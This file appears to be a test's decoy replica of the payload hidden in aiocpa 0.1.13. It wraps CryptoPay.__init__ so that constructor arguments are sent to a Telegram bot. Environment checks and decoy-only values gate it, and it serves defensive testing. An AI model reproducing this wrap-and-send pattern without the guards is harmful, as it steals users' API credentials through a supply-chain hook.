# The innermost layer of the replica of aiocpa 0.1.13: what build.py hides under fifty layers.
# It is a test's decoy and harmless by construction. It does nothing at all unless CULPRIT_REPLICA=1 is set and
# HTTPS_PROXY is a port of 127.0.0.1; it looks again before each request, and then sends only values that are
# themselves decoys, with a token that no bot has, to a stand-in on this machine.
import os
import urllib


def _replica_allowed(values):
    proxy = os.environ.get("HTTPS_PROXY", "")
    local = "http://127.0.0.1:"
    return (
        os.environ.get("CULPRIT_REPLICA") == "1"
        and proxy.startswith(local)
        and proxy[len(local) :].isdigit()
        and urllib.request.getproxies().get("https") == proxy
        and not urllib.request.proxy_bypass("api.telegram.org")
        and all(isinstance(value, str) and ("CULPRIT-DECOY" in value or value.startswith(local)) for value in values)
    )


def _replica_wrap(original):
    def __init__(*args, **kwargs):
        original(*args, **kwargs)
        try:
            if _replica_allowed(args[1:]):
                bot = "https://api.telegram.org/bot0000000000:CULPRIT-DECOY"
                urllib.request.urlopen(f"{bot}/sendMessage?chat_id=0&text={args[1:]}").close()
        except Exception:
            pass

    return __init__


# It runs in the globals of cryptopay.utils.sync, where CryptoPay is.
# ruff: noqa: F821
if _replica_allowed(()):
    CryptoPay.__init__ = _replica_wrap(CryptoPay.__init__)
